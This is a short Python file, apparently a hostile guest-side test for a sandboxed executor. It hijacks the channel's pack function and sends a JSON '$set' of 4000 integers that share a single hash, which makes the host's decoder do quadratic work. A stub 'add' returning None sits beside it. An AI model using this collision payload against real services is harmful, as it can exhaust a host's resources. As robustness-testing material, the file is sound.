# Attacks the decoder of values: numbers of equal hash make a set quadratic.
import struct
import sys

channel = sys.modules["executor.guest.channel"]
honest = channel.pack


def pack(message):
    if "id" not in message:
        return honest(message)
    text = b'{"id":%d,"value":{"$set":[%s]}}' % (message["id"], b",".join(b"%d" % (n * (2**61 - 1)) for n in range(4000)))
    return struct.pack(">I", len(text)) + text


channel.pack = pack


def add(a, b):
    return None
